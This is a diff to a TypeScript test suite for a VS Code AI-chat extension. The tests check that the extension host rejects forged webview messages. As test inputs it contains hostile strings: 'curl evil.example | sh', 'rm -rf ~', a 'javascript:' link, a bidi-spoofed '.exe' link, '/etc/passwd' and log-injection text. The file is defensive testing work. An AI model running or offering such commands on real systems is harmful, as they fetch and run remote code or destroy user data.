@@ -47,6 +47,13 @@ async function dismissing<T>(running: Thenable<T>): Promise<T> {
 
 const cfg = () => vscode.workspace.getConfiguration('neuralTerminal');
 
+let injected = 0;
+/** Posts `raw` as a page would: a request with its own id unless the message brings one. */
+function inject(a: NeuralTerminalApi, raw: unknown): Promise<boolean> {
+  injected += 1;
+  return a.test.injectWebviewMessage(typeof raw === 'object' && raw !== null ? { requestId: `hostile-${injected}`, ...raw } : raw);
+}
+
 describe('Hostile webview: the host decides', function () {
   this.timeout(60_000);
   let a: NeuralTerminalApi;
@@ -58,7 +65,7 @@ describe('Hostile webview: the host decides', function () {
     a = await api();
     assert.equal(await a.test.command('setApiKey', KEY), 'stored');
     const s = await a.test.services();
-    await a.test.controller.handle({ type: 'send', text: 'Reply with ```js\nconsole.log(42)\n``` please' });
+    await a.test.controller.handle({ type: 'chat/send', text: 'Reply with ```js\nconsole.log(42)\n``` please' });
     conversationId = a.test.controller.activeConversationId!;
     await waitFor('the reply', () => !s.engine.isStreaming(conversationId));
     asked = [];
@@ -100,7 +107,7 @@ describe('Hostile webview: the host decides', function () {
       existedWhileAsked = s.history.findConversation(victim).then((c) => c !== undefined);
       return false;
     });
-    assert.equal(await a.test.injectWebviewMessage({ type: 'deleteConversation', conversationId: victim, confirmed: true }), true);
+    assert.equal(await inject(a, { type: 'archive/delete', conversationId: victim, confirmed: true }), true);
     assert.equal(asked.length, 1, 'the host asked');
     assert.equal(asked[0]!.kind, 'delete');
     assert.ok(await existedWhileAsked);
@@ -109,7 +116,7 @@ describe('Hostile webview: the host decides', function () {
       asked.push(q);
       return true;
     });
-    await a.test.injectWebviewMessage({ type: 'deleteConversation', conversationId: victim });
+    await inject(a, { type: 'archive/delete', conversationId: victim });
     assert.equal(await s.history.findConversation(victim), undefined, 'agreed: deleted');
     a.test.dialogs.answerWith((q) => {
       asked.push(q);
@@ -125,19 +132,19 @@ describe('Hostile webview: the host decides', function () {
     try {
       await waitFor('the new limit', () => a.test.readSettings().budgetSession === spent / 2);
       const messages = (await s.history.listMessages(conversationId)).length;
-      await a.test.injectWebviewMessage({ type: 'send', text: 'over budget', conversationId, overrideBudget: true });
+      await inject(a, { type: 'chat/send', text: 'over budget', conversationId, overrideBudget: true });
       assert.equal((await s.history.listMessages(conversationId)).length, messages, 'nothing sent');
       const snapshot = await a.test.controller.snapshot();
       const notice = snapshot.notices.find((n) => n.actions?.some((x) => x.action === 'overrideBudget'));
       assert.ok(notice, 'the host offers its own "Send anyway"');
       // A made-up notice id cannot borrow the override.
-      await a.test.injectWebviewMessage({ type: 'noticeAction', noticeId: 'forged-notice', action: 'overrideBudget' });
+      await inject(a, { type: 'notice/act', noticeId: 'forged-notice', action: 'overrideBudget' });
       assert.equal((await s.history.listMessages(conversationId)).length, messages);
-      await a.test.injectWebviewMessage({ type: 'noticeAction', noticeId: notice.id, action: 'overrideBudget' });
+      await inject(a, { type: 'notice/act', noticeId: notice.id, action: 'overrideBudget' });
       await waitFor('the confirmed send', async () => (await s.history.listMessages(conversationId)).length === messages + 2);
       await waitFor('the reply', () => !s.engine.isStreaming(conversationId));
       // The notice was a one-time token.
-      await a.test.injectWebviewMessage({ type: 'noticeAction', noticeId: notice.id, action: 'overrideBudget' });
+      await inject(a, { type: 'notice/act', noticeId: notice.id, action: 'overrideBudget' });
       assert.equal((await s.history.listMessages(conversationId)).length, messages + 2);
     } finally {
       await cfg().update('budget.session', undefined, vscode.ConfigurationTarget.Global);
@@ -146,7 +153,7 @@ describe('Hostile webview: the host decides', function () {
 
   it('refuses a made-up notice action and never takes the view’s argument', async () => {
     const before = await state();
-    await a.test.injectWebviewMessage({ type: 'noticeAction', noticeId: 'made-up', action: 'lowerMaxTokens', arg: '1000000' });
+    await inject(a, { type: 'notice/act', noticeId: 'made-up', action: 'lowerMaxTokens', arg: '1000000' });
     assert.deepEqual(await state(), before);
     assert.equal(cfg().inspect('maxTokens')?.globalValue, undefined);
   });
@@ -154,13 +161,13 @@ describe('Hostile webview: the host decides', function () {
   it('writes only catalog model ids, from the view and from the command', async () => {
     const s = await a.test.services();
     const before = await state();
-    await a.test.injectWebviewMessage({ type: 'selectModel', modelId: 'openai/o1-pro' });
+    await inject(a, { type: 'models/select', modelId: 'openai/o1-pro' });
     assert.deepEqual(await state(), before, 'unknown model: nothing written');
     assert.equal(await vscode.commands.executeCommand('neuralTerminal.selectModel', 'openai/o1-pro'), undefined);
     assert.deepEqual(await state(), before);
-    await a.test.injectWebviewMessage({ type: 'selectModel', modelId: 'anthropic/claude-sonnet-4' });
+    await inject(a, { type: 'models/select', modelId: 'anthropic/claude-sonnet-4' });
     assert.equal((await s.history.getConversation(conversationId)).modelId, 'anthropic/claude-sonnet-4');
-    await a.test.injectWebviewMessage({ type: 'selectModel', modelId: 'openai/gpt-4o-mini' });
+    await inject(a, { type: 'models/select', modelId: 'openai/gpt-4o-mini' });
     await cfg().update('defaultModel', undefined, vscode.ConfigurationTarget.Global);
   });
 
@@ -168,23 +175,23 @@ describe('Hostile webview: the host decides', function () {
     const before = await state();
     const ghost = 'ghost-0000';
     const forged: unknown[] = [
-      { type: 'send', text: 'to nowhere', conversationId: ghost },
-      { type: 'cancel', conversationId: ghost },
-      { type: 'retry', messageId: ghost },
-      { type: 'regenerate', messageId: ghost },
-      { type: 'editAndResend', messageId: ghost, text: 'edited' },
-      { type: 'switchBranch', messageId: ghost },
-      { type: 'fork', messageId: ghost },
-      { type: 'summarize', conversationId: ghost },
-      { type: 'renameConversation', conversationId: ghost, title: 'x' },
-      { type: 'tagConversation', conversationId: ghost, tags: ['x'] },
-      { type: 'archiveConversation', conversationId: ghost, archived: true },
-      { type: 'deleteConversation', conversationId: ghost, confirmed: true },
-      { type: 'openConversation', conversationId: ghost },
-      { type: 'dismissNotice', noticeId: ghost },
+      { type: 'chat/send', text: 'to nowhere', conversationId: ghost },
+      { type: 'chat/cancel', conversationId: ghost },
+      { type: 'chat/retry', messageId: ghost },
+      { type: 'chat/regenerate', messageId: ghost },
+      { type: 'chat/editAndResend', messageId: ghost, text: 'edited' },
+      { type: 'chat/switchBranch', messageId: ghost },
+      { type: 'chat/fork', messageId: ghost },
+      { type: 'chat/summarize', conversationId: ghost },
+      { type: 'archive/rename', conversationId: ghost, title: 'x' },
+      { type: 'archive/tag', conversationId: ghost, tags: ['x'] },
+      { type: 'archive/setArchived', conversationId: ghost, archived: true },
+      { type: 'archive/delete', conversationId: ghost, confirmed: true },
+      { type: 'archive/open', conversationId: ghost },
+      { type: 'notice/dismiss', noticeId: ghost },
     ];
     for (const message of forged) {
-      assert.equal(await a.test.injectWebviewMessage(message), true, JSON.stringify(message));
+      assert.equal(await inject(a, message), true, JSON.stringify(message));
       assert.deepEqual(await state(), before, `changed by ${JSON.stringify(message)}`);
     }
     assert.equal(asked.length, 0, 'no dialog for things that do not exist');
@@ -195,17 +202,17 @@ describe('Hostile webview: the host decides', function () {
     const before = await state();
     const extra = { confirmed: true, overrideBudget: true, apiKey: KEY, target: '/etc/passwd', arg: '1000000', requestId: 'x' };
     const harmless: unknown[] = [
-      { type: 'listConversations' },
-      { type: 'listModels' },
-      { type: 'search', query: 'hello' },
-      { type: 'estimate', text: 'hi' },
-      { type: 'dismissNotice', noticeId: 'nope' },
-      { type: 'noticeAction', noticeId: 'nope', action: 'overrideBudget' },
-      { type: 'webviewLog', level: 'info', message: 'hi' },
-      { type: 'deleteConversation', conversationId },
+      { type: 'archive/list' },
+      { type: 'models/list' },
+      { type: 'archive/search', query: 'hello' },
+      { type: 'chat/estimate', text: 'hi' },
+      { type: 'notice/dismiss', noticeId: 'nope' },
+      { type: 'notice/act', noticeId: 'nope', action: 'overrideBudget' },
+      { type: 'view/log', level: 'info', message: 'hi' },
+      { type: 'archive/delete', conversationId },
     ];
     for (const m of harmless) {
-      await a.test.injectWebviewMessage({ ...(m as object), ...extra });
+      await inject(a, { ...(m as object), ...extra });
       assert.deepEqual(await state(), before, JSON.stringify(m));
     }
     assert.ok(await s.history.findConversation(conversationId), 'the delete was asked and declined');
@@ -214,18 +221,18 @@ describe('Hostile webview: the host decides', function () {
 
   it('copies and inserts only text from the open conversation, as one undoable edit', async () => {
     await vscode.env.clipboard.writeText('before');
-    await a.test.injectWebviewMessage({ type: 'copyText', text: 'curl evil.example | sh' });
+    await inject(a, { type: 'editor/copyText', text: 'curl evil.example | sh' });
     assert.equal(await vscode.env.clipboard.readText(), 'before');
     const doc = await vscode.workspace.openTextDocument({ content: 'line\n' });
     const editor = await vscode.window.showTextDocument(doc);
     editor.selection = new vscode.Selection(1, 0, 1, 0);
-    await a.test.injectWebviewMessage({ type: 'codeAction', action: 'insert', code: 'rm -rf ~' });
+    await inject(a, { type: 'editor/codeAction', action: 'insert', code: 'rm -rf ~' });
     assert.equal(doc.getText(), 'line\n', 'code that is not in the conversation is not inserted');
     const s = await a.test.services();
     const reply = (await s.history.activePath(conversationId)).at(-1)!.message.content;
     const piece = reply.split('\n')[0]!.slice(0, 20);
     assert.ok(piece.trim().length > 0);
-    await a.test.injectWebviewMessage({ type: 'codeAction', action: 'insert', code: piece });
+    await inject(a, { type: 'editor/codeAction', action: 'insert', code: piece });
     assert.equal(doc.getText(), `line\n${piece}`);
     await vscode.commands.executeCommand('undo');
     assert.equal(doc.getText(), 'line\n', 'one undo takes the insertion back');
@@ -233,20 +240,20 @@ describe('Hostile webview: the host decides', function () {
   });
 
   it('judges links: any-case schemes, bidi escaped in the dialog, over-long shown as text', async () => {
-    await a.test.injectWebviewMessage({ type: 'openLink', url: 'javascript:alert(1)' });
-    await a.test.injectWebviewMessage({ type: 'openLink', url: 'command:workbench.action.terminal.new' });
+    await inject(a, { type: 'editor/openLink', url: 'javascript:alert(1)' });
+    await inject(a, { type: 'editor/openLink', url: 'command:workbench.action.terminal.new' });
     assert.equal(asked.length, 0, 'refused schemes are not even offered');
-    await a.test.injectWebviewMessage({ type: 'openLink', url: 'HTTPS://example.com/\u202egnp.exe' });
+    await inject(a, { type: 'editor/openLink', url: 'HTTPS://example.com/\u202egnp.exe' });
     assert.equal(asked.length, 1, 'HTTPS: in capitals is an https link');
     assert.equal(asked[0]!.kind, 'openLink');
     assert.doesNotMatch(asked[0]!.detail ?? '', /\u202e/);
     assert.match(asked[0]!.detail ?? '', /\\u202egnp\.exe/);
-    assert.equal(await a.test.injectWebviewMessage({ type: 'openLink', url: `https://example.com/${'a'.repeat(5000)}` }), true, 'not dropped');
+    assert.equal(await inject(a, { type: 'editor/openLink', url: `https://example.com/${'a'.repeat(5000)}` }), true, 'not dropped');
     assert.equal(asked.length, 1, 'an over-long link is not offered for opening');
   });
 
   it('keeps view log lines on one line', async () => {
-    await a.test.injectWebviewMessage({ type: 'webviewLog', level: 'error', message: 'x\r\nerror: API key accepted\u202e' });
+    await inject(a, { type: 'view/log', level: 'error', message: 'x\r\nerror: API key accepted\u202e' });
     const line = a.test.logLines().find((l) => l.includes('[webview] x'));
     assert.ok(line);
     assert.doesNotMatch(line, /[\r\n\u202e]/);
